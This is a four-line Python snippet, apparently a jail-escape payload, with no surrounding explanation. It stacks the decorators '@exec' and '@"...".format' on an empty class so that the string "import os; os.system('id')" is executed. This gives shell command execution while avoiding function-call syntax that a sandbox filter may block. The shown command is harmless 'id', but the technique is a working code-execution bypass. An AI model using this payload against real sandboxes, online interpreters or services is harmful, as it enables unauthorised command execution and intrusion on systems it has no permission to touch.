@exec
@"import os; os.system('id')".format
class note:
    pass
